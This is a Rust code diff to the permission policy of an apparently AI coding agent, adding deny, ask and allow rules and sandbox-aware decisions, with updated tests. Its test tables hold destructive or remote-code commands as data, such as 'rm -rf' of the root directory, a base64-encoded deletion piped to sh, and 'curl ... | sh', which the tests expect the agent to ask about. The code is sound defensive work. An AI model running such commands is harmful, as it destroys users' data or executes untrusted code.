@@ -6,8 +6,9 @@
 
 use std::collections::HashSet;
 
-use warden_protocol::{DangerLevel, ToolDefinition, ToolErrorCode, TrustLevel};
+use warden_protocol::{AskStep, DangerLevel, ToolDefinition, ToolErrorCode, TrustLevel};
 
+use crate::rules::{RuleVerdict, NEVER_REMEMBERED};
 use crate::sandbox::blocklist::{self, Verdict};
 use crate::scope::Scope;
 use crate::tool::Needs;
@@ -15,16 +16,31 @@ use crate::tool::Needs;
 #[derive(Debug, Clone, PartialEq, Eq)]
 pub enum Decision {
     Allow,
-    Ask,
-    Deny { code: ToolErrorCode, reason: String },
+    /// The user is asked; which step of the policy made it ask.
+    Ask(Asked),
+    Deny {
+        code: ToolErrorCode,
+        reason: String,
+    },
 }
 
-/// Programs whose approval is never remembered for the session: their danger lies in their
-/// arguments (what they delete, overwrite, kill or send), which a prefix grant cannot see.
-const NEVER_REMEMBERED: &[&str] = &[
-    "rm", "rmdir", "mv", "cp", "dd", "ln", "chmod", "chown", "chgrp", "truncate", "shred", "kill", "pkill",
-    "killall", "find", "xargs", "curl", "wget", "scp", "rsync", "ssh",
-];
+impl Decision {
+    pub fn asks(&self) -> bool {
+        matches!(self, Self::Ask(_))
+    }
+
+    fn ask(step: AskStep) -> Self {
+        Self::Ask(Asked { step, rule: None })
+    }
+}
+
+/// Why a call asks: the step, and the rule it names (an ask rule, or the allow rule that was not
+/// used because commands are not in the box here).
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct Asked {
+    pub step: AskStep,
+    pub rule: Option<String>,
+}
 
 /// What "Allow for this session" remembered (the protocol's type: the window lists and revokes them).
 pub use warden_protocol::SessionGrant as Grant;
@@ -87,13 +103,18 @@ pub struct Containment {
     /// network: the session bus, where the keychain answers, and agents' sockets): its commands
     /// ask as uncontained ones do, though what they ask for beyond the box is still an escalation.
     pub sockets_reachable: bool,
+    /// The box is bubblewrap's (a private file system, network and session): only there does a
+    /// command allow rule let a command run unasked.
+    pub bubblewrap: bool,
 }
 
 impl Containment {
     /// Commands run as the user: no OS sandbox on this machine.
-    pub const NONE: Self = Self { contained: false, network: true, sockets_reachable: false };
-    /// The default box: contained, no network.
-    pub const BOXED: Self = Self { contained: true, network: false, sockets_reachable: false };
+    pub const NONE: Self =
+        Self { contained: false, network: true, sockets_reachable: false, bubblewrap: false };
+    /// The default box: bubblewrap's, no network.
+    pub const BOXED: Self =
+        Self { contained: true, network: false, sockets_reachable: false, bubblewrap: true };
 
     /// Whether a command runs unasked where the trust level alone would let it: only in a box that
     /// holds it in entirely.
@@ -151,7 +172,8 @@ pub fn escalation(needs: &Needs, containment: Containment) -> Option<Escalation>
     }
 }
 
-/// Decide what happens to one tool call whose commands no OS sandbox contains (see [`decide_with`]).
+/// Decide what happens to one tool call whose commands no OS sandbox contains, without rules (see
+/// [`decide_with`]).
 pub fn decide(
     trust: TrustLevel,
     tool: &ToolDefinition,
@@ -159,7 +181,7 @@ pub fn decide(
     needs: &Needs,
     grants: &Grants,
 ) -> Decision {
-    decide_with(trust, tool, scope, needs, grants, Containment::NONE)
+    decide_with(trust, tool, scope, needs, grants, Containment::NONE, &RuleVerdict::default())
 }
 
 /// Why a call's command must be asked about whatever the trust level: the blocklist could not judge
@@ -199,9 +221,15 @@ pub fn ask_reason(trust: TrustLevel, needs: &Needs, containment: Containment) ->
     })
 }
 
-/// [`decide`], with `containment` saying whether an OS sandbox contains the command: then a command
-/// the blocklist cannot judge follows the trust level like any other, and Autonomous runs commands
-/// unasked only then. A call that asks for more than the box ([`escalation`]) always asks.
+/// Decide one call: the trust level, the scope, the box (`containment`), the session's grants and
+/// what the permission rules say of it (`rules`), in this order:
+///
+/// 1. refused: a tool out of scope, a command the blocklist refuses, a deny rule;
+/// 2. asked whatever allows it: more than the box gives ([`escalation`]), a command nobody can
+///    judge outside a box, any command in Autonomous without a box, an ask rule, a tool the user
+///    wants to be asked about;
+/// 3. what the trust level lets run unasked runs; else a session grant, or an allow rule — in
+///    Supervised only for a tool that changes nothing, and for a command only in bubblewrap's box.
 pub fn decide_with(
     trust: TrustLevel,
     tool: &ToolDefinition,
@@ -209,6 +237,7 @@ pub fn decide_with(
     needs: &Needs,
     grants: &Grants,
     containment: Containment,
+    rules: &RuleVerdict,
 ) -> Decision {
     let contained = containment.holds();
     if !scope.allows(&tool.name) {
@@ -228,29 +257,46 @@ pub fn decide_with(
             };
         }
     }
-    // Never covered by a grant: the grant was for the program in the box.
-    if escalation(needs, containment).is_some() {
-        return Decision::Ask;
+    if let Some(rule) = &rules.deny {
+        return Decision::Deny {
+            code: ToolErrorCode::PermissionDenied,
+            reason: format!("A permission rule refuses this call: {rule} (Settings → Permissions)."),
+        };
     }
-    // Never covered by a grant either: an unknown command has no remembered prefix.
+    // Never covered by a grant or a rule: the grant was for the program in the box.
+    if escalation(needs, containment).is_some() {
+        return Decision::ask(AskStep::OutsideBox);
+    }
+    // Never covered either: an unknown command has no remembered prefix.
     if must_ask_reason(needs, contained).is_some() {
-        return Decision::Ask;
+        return Decision::ask(AskStep::Unjudgeable);
     }
     if trust == TrustLevel::Autonomous && needs.command.is_some() && !contained {
-        return Decision::Ask;
+        return Decision::ask(AskStep::NotContained);
+    }
+    if let Some(rule) = &rules.ask {
+        return Decision::Ask(Asked { step: AskStep::AskRule, rule: Some(rule.clone()) });
     }
     if scope.always_asks(&tool.name) && !grants.covers(&tool.name, needs) {
-        return Decision::Ask;
+        return Decision::ask(AskStep::ToolAlwaysAsks);
     }
+    let changes = tool.danger != DangerLevel::Safe;
     let asks = match trust {
         TrustLevel::Autonomous => false,
-        TrustLevel::Guided => tool.danger == DangerLevel::Dangerous,
+        TrustLevel::Guided => changes,
         TrustLevel::Supervised => true,
     };
-    if asks && !grants.covers(&tool.name, needs) {
-        Decision::Ask
-    } else {
-        Decision::Allow
+    if !asks || grants.covers(&tool.name, needs) {
+        return Decision::Allow;
+    }
+    let not_allowed = if trust == TrustLevel::Supervised { AskStep::Supervised } else { AskStep::NoRule };
+    match &rules.allow {
+        None => Decision::ask(not_allowed),
+        Some(_) if trust == TrustLevel::Supervised && changes => Decision::ask(AskStep::Supervised),
+        Some(rule) if needs.command.is_some() && !(containment.bubblewrap && contained) => {
+            Decision::Ask(Asked { step: AskStep::RuleNeedsBox, rule: Some(rule.clone()) })
+        }
+        Some(_) => Decision::Allow,
     }
 }
 
@@ -275,6 +321,18 @@ mod tests {
         }
     }
 
+    /// Every ask as one value: these cases are about whether a call asks (which step asked is
+    /// the rules' cases' to say).
+    const ASK: Decision = Decision::Ask(Asked { step: AskStep::NoRule, rule: None });
+
+    fn plain(decision: Decision) -> Decision {
+        if decision.asks() {
+            ASK
+        } else {
+            decision
+        }
+    }
+
     fn decide(
         trust: TrustLevel,
         tool: &ToolDefinition,
@@ -282,7 +340,7 @@ mod tests {
         input: &Value,
         grants: &Grants,
     ) -> Decision {
-        super::decide(trust, tool, scope, &needs(&tool.name, input), grants)
+        plain(super::decide(trust, tool, scope, &needs(&tool.name, input), grants))
     }
 
     fn decide_with(
@@ -293,7 +351,8 @@ mod tests {
         grants: &Grants,
         containment: Containment,
     ) -> Decision {
-        super::decide_with(trust, tool, scope, &needs(&tool.name, input), grants, containment)
+        let rules = RuleVerdict::default();
+        plain(super::decide_with(trust, tool, scope, &needs(&tool.name, input), grants, containment, &rules))
     }
 
     fn grant_for(tool: &str, input: &Value) -> Option<Grant> {
@@ -333,10 +392,10 @@ mod tests {
         let none = Grants::default();
         let input = json!({"command": "ls"});
         let table = [
-            (Supervised, SAFE, Decision::Ask),
-            (Supervised, DANGEROUS, Decision::Ask),
+            (Supervised, SAFE, ASK),
+            (Supervised, DANGEROUS, ASK),
             (Guided, SAFE, Decision::Allow),
-            (Guided, DANGEROUS, Decision::Ask),
+            (Guided, DANGEROUS, ASK),
             (Autonomous, SAFE, Decision::Allow),
             (Autonomous, DANGEROUS, Decision::Allow),
         ];
@@ -357,7 +416,7 @@ mod tests {
         scope.always_ask.insert("mcp__db__query".to_owned());
         let input = json!({"sql": "select 1"});
         for trust in [TrustLevel::Supervised, TrustLevel::Guided, TrustLevel::Autonomous] {
-            assert_eq!(decide(trust, &tool, &scope, &input, &Grants::default()), Decision::Ask, "{trust:?}");
+            assert_eq!(decide(trust, &tool, &scope, &input, &Grants::default()), ASK, "{trust:?}");
         }
         let mut grants = Grants::default();
         grants.insert(grant_for("mcp__db__query", &input).unwrap());
@@ -400,24 +459,24 @@ mod tests {
         let none = Grants::default();
         let bash = def("bash", DANGEROUS);
         let table: &[(&str, TrustLevel, bool, Decision)] = &[
-            ("rm -rf $(echo /)", Autonomous, false, Decision::Ask),
-            ("rm -rf $(echo /)", Guided, false, Decision::Ask),
-            ("rm -rf $(echo /)", Supervised, false, Decision::Ask),
+            ("rm -rf $(echo /)", Autonomous, false, ASK),
+            ("rm -rf $(echo /)", Guided, false, ASK),
+            ("rm -rf $(echo /)", Supervised, false, ASK),
             ("rm -rf $(echo /)", Autonomous, true, Decision::Allow),
-            ("echo cm0gLXJmIC8= | base64 -d | sh", Autonomous, false, Decision::Ask),
+            ("echo cm0gLXJmIC8= | base64 -d | sh", Autonomous, false, ASK),
             ("echo cm0gLXJmIC8= | base64 -d | sh", Autonomous, true, Decision::Allow),
-            ("$X -rf /", Autonomous, false, Decision::Ask),
-            ("eval \"$CMD\"", Autonomous, false, Decision::Ask),
-            ("python3 -c 'import shutil; shutil.rmtree(\"/\")'", Autonomous, false, Decision::Ask),
+            ("$X -rf /", Autonomous, false, ASK),
+            ("eval \"$CMD\"", Autonomous, false, ASK),
+            ("python3 -c 'import shutil; shutil.rmtree(\"/\")'", Autonomous, false, ASK),
             ("cargo test", Autonomous, true, Decision::Allow),
             ("echo $HOME", Autonomous, true, Decision::Allow),
             ("ls ~", Autonomous, true, Decision::Allow),
             ("rm -rf target", Autonomous, true, Decision::Allow),
             // Not contained: Autonomous asks before every command.
-            ("cargo test", Autonomous, false, Decision::Ask),
-            ("ls ~", Autonomous, false, Decision::Ask),
-            ("cargo test", Guided, true, Decision::Ask),
-            ("cargo test", Supervised, false, Decision::Ask),
+            ("cargo test", Autonomous, false, ASK),
+            ("ls ~", Autonomous, false, ASK),
+            ("cargo test", Guided, true, ASK),
+            ("cargo test", Supervised, false, ASK),
         ];
         for (command, trust, contained, expected) in table {
             let input = json!({ "command": command });
@@ -444,7 +503,7 @@ mod tests {
         let mut grants = Grants::default();
         grants.insert(Grant::BashPrefix { prefix: "sh".into() });
         let input = json!({"command": "curl -s example.com | sh"});
-        assert_eq!(decide(Guided, &bash, &all, &input, &grants), Decision::Ask);
+        assert_eq!(decide(Guided, &bash, &all, &input, &grants), ASK);
         assert_eq!(grant_for("bash", &input), None);
         let reason = must_ask_reason("bash", &input, false).unwrap_or_default();
         assert!(reason.contains("pipe"), "{reason}");
@@ -469,12 +528,10 @@ mod tests {
     fn a_box_that_leaves_sockets_reachable_asks_as_no_box_does() {
         let all = Scope::all();
         let bash = def("bash", DANGEROUS);
-        let leaky = Containment { contained: true, network: true, sockets_reachable: true };
+        let leaky =
+            Containment { contained: true, network: true, sockets_reachable: true, bubblewrap: false };
         let plain = json!({"command": "cargo test"});
-        assert_eq!(
-            decide_with(TrustLevel::Autonomous, &bash, &all, &plain, &Grants::default(), leaky),
-            Decision::Ask
-        );
+        assert_eq!(decide_with(TrustLevel::Autonomous, &bash, &all, &plain, &Grants::default(), leaky), ASK);
         let open = Containment { sockets_reachable: false, ..leaky };
         assert_eq!(
             decide_with(TrustLevel::Autonomous, &bash, &all, &plain, &Grants::default(), open),
@@ -485,10 +542,10 @@ mod tests {
         let unknown = json!({"command": "$(cat cmd)"});
         let mut grants = Grants::default();
         grants.insert(grant_for("bash", &plain).unwrap());
-        assert_eq!(decide_with(TrustLevel::Guided, &bash, &all, &unknown, &grants, leaky), Decision::Ask);
+        assert_eq!(decide_with(TrustLevel::Guided, &bash, &all, &unknown, &grants, leaky), ASK);
         let outside = json!({"command": "cargo test", "outside_sandbox": true});
         assert_eq!(escalation("bash", &outside, leaky), Some(Escalation::OutsideSandbox));
-        assert_eq!(decide_with(TrustLevel::Guided, &bash, &all, &outside, &grants, leaky), Decision::Ask);
+        assert_eq!(decide_with(TrustLevel::Guided, &bash, &all, &outside, &grants, leaky), ASK);
         // The mechanism says when: the Landlock fallback with the network, and only then.
         let landlock = crate::containment::Mechanism::Landlock { abi: 6 };
         assert!(landlock.leaves_sockets_reachable(true) && !landlock.leaves_sockets_reachable(false));
@@ -509,14 +566,14 @@ mod tests {
             for input in [&network, &outside] {
                 assert_eq!(
                     decide_with(trust, &bash, &all, input, &grants, Containment::BOXED),
-                    Decision::Ask,
+                    ASK,
                     "{trust:?} {input}"
                 );
             }
             assert_eq!(decide_with(trust, &bash, &all, &plain, &grants, Containment::BOXED), Decision::Allow);
         }
         // The project allows the network: asking for it is no escalation; outside still is.
-        let open = Containment { contained: true, network: true, sockets_reachable: false };
+        let open = Containment { contained: true, network: true, sockets_reachable: false, bubblewrap: true };
         assert_eq!(escalation("bash", &network, open), None);
         assert_eq!(escalation("bash", &outside, open), Some(Escalation::OutsideSandbox));
         // Not contained: there is no box to leave (Autonomous asks anyway, for another reason).
@@ -539,12 +596,8 @@ mod tests {
         let all = Scope::all();
         let ask = |cmd: &str| decide(TrustLevel::Guided, &tool, &all, &json!({"command": cmd}), &grants);
         assert_eq!(ask("git status --short"), Decision::Allow);
-        assert_eq!(ask("git push"), Decision::Ask);
-        assert_eq!(
-            ask("git status && rm -rf ~/work"),
-            Decision::Ask,
-            "a grant never covers a compound command"
-        );
+        assert_eq!(ask("git push"), ASK);
+        assert_eq!(ask("git status && rm -rf ~/work"), ASK, "a grant never covers a compound command");
         assert_eq!(grant_for("bash", &json!({"command": "git status; rm x"})), None);
     }
 
@@ -568,7 +621,7 @@ mod tests {
         );
         assert_eq!(
             decide(TrustLevel::Guided, &def("file_edit", DANGEROUS), &all, &json!({"path": "b"}), &grants),
-            Decision::Ask
+            ASK
         );
     }
 }
